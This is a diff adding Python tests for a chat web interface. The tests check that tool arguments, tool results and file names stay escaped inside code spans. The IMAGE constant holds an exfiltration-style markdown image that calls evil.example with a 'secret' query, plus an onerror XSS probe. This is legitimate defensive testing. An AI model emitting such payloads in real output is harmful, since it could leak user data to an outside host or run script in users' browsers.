@@ -1,0 +1,35 @@
+"""The web page shows what a model, a tool or a file wrote without rendering it: a
+call's arguments, its result and a source's file name stay inside their code spans."""
+
+from __future__ import annotations
+
+from typing import Any
+
+from minichat.backend import Tool
+from minichat.tools.base import ToolFunction
+from minichat.web.handlers import WebChat, sources_markdown
+from tests.test_tools_calls import Caller, chat_with
+
+IMAGE = "` ![x](http://evil.example/?q=secret) <img src=x onerror=alert(1)> `"
+
+
+def test_calls_and_results_stay_in_their_code_spans() -> None:
+    def leak(arguments: dict[str, Any]) -> str:
+        return f"found {IMAGE}\n\n# heading"
+
+    schema = {"type": "object", "properties": {"path": {"type": "string"}}}
+    tool = ToolFunction(Tool("leak", "Read a file.", schema), leak)
+    backend = Caller([[("leak", {"path": IMAGE})], "done"])
+    session = chat_with(backend, [tool], choice="required")
+    session.send("read it")
+    shown = "\n".join(m["content"] for m in WebChat(session).messages())
+    lines = [line for line in shown.splitlines() if "evil.example" in line]
+    assert len(lines) == 2, shown
+    for line in lines:  # one span from the first backtick to the last, nothing outside it
+        assert line.startswith(("tool `", "→ `")) and line.endswith("`"), line
+        assert line.count("`") == 2, line
+
+
+def test_a_file_name_cannot_leave_its_code_span() -> None:
+    shown = sources_markdown((f"[1] notes{IMAGE}.md",))
+    assert shown.count("`") == 2 and shown.endswith("`")
